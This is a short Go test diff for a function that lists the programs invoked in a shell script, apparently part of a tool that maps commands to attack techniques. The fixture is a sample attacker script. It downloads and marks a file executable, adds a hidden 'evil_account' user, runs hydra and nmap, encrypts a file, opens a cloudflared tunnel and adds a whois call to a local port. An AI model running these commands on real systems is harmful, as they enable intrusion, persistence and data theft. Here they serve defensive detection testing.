@@ -9,13 +9,14 @@ import (
 )
 
 func TestPrograms(t *testing.T) {
-	require.Equal(t, []string{"/opt/payloads/../bin/cloudflared", "/usr/bin/hydra", "ccencrypt", "chmod", "curl", "grep", "nmap", "useradd"}, Programs(`if [ -x "$(command -v nmap)" ]; then
+	require.Equal(t, []string{"/opt/payloads/../bin/cloudflared", "/usr/bin/hydra", "ccencrypt", "chmod", "curl", "grep", "nmap", "useradd", "whois"}, Programs(`if [ -x "$(command -v nmap)" ]; then
   sudo nmap -sS 127.0.0.1 | grep open
 fi
 X=1 curl -so /tmp/x http://x && chmod +x /tmp/x; echo done
 useradd -M -N -r -s /bin/bash -c evil_account art; /usr/bin/hydra -l root
 c=$(which ccencrypt); $c -K pw /tmp/f; $HOME/x
-nohup /opt/payloads/../bin/cloudflared tunnel --url localhost:8080 &`))
+nohup /opt/payloads/../bin/cloudflared tunnel --url localhost:8080 &
+timeout --preserve-status 1 whois -h localhost -p 8443 hi`))
 }
 
 func TestCoveredByTechniqueOrItsParent(t *testing.T) {
